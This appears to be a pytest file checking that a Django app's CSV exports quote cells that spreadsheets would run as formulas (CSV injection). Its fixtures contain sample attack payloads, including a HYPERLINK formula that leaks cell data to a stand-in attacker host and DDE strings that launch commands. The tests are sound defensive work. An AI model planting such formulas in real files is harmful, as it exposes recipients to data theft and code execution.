"""Every CSV the public side writes (the corpus export, on the web and from the command
line, and each chart's CSV) writes a text cell a spreadsheet would run as a formula with a
quote before it (OWASP "CSV Injection"): a published letter's treatment reading
=HYPERLINK(...) had opened as a live link."""

import csv
import io

import pytest
from django.core.cache import cache

from openimr.cli import main
from openimr.decisions.domain.spreadsheet import spreadsheet_safe
from openimr.decisions.tests.public_factories import item, make_decision

pytestmark = pytest.mark.django_db
LINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'


@pytest.fixture
def corpus() -> None:
    cache.clear()  # the charts' data are kept by the corpus's size
    make_decision(
        case_number="CM16-0000001",
        summary="+1 visit requested; -2 denied",
        specialties=("@SUM(1+1)*cmd|' /C calc'!A0",),
        items=[
            item(LINK, rationale="-2+3+cmd|' /C calc'!A0", outcome="overturned"),
            item("Physical therapy = six visits", rationale="\tTab first.", outcome="upheld"),
        ],
    )


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\0=1+1", "'\0=1+1"),
        ("a = b", "a = b"),
        ("", ""),
        (-2, -2),
        (None, None),
    ],
)
def test_only_text_a_spreadsheet_would_run_is_quoted(cell, written):
    assert spreadsheet_safe(cell) == written


def _rows(data: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data)))


def test_the_web_export_writes_a_formula_as_text(client, corpus):
    response = client.get("/decisions/export.csv")
    rows = _rows(b"".join(response.streaming_content).decode())
    assert [r["treatment"] for r in rows] == ["'" + LINK, "Physical therapy = six visits"]
    assert [r["rationale"] for r in rows] == ["'-2+3+cmd|' /C calc'!A0", "'\tTab first."]
    assert rows[0]["clinical_summary"] == "'+1 visit requested; -2 denied"
    assert rows[0]["specialties"].startswith("'@SUM")
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


def test_the_command_line_export_writes_a_formula_as_text(corpus, tmp_path):
    out = tmp_path / "corpus.csv"
    assert main(["corpus", "export", "--format", "csv", "-o", str(out)]) == 0
    rows = _rows(out.read_text(encoding="utf-8"))
    assert rows[0]["treatment"] == "'" + LINK


def test_a_chart_csv_writes_a_formula_as_text(client, corpus):
    data = client.get("/decisions/analytics/specialty.csv").content.decode()
    keys = [row[0] for row in csv.reader(io.StringIO(data))][1:]
    assert keys == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
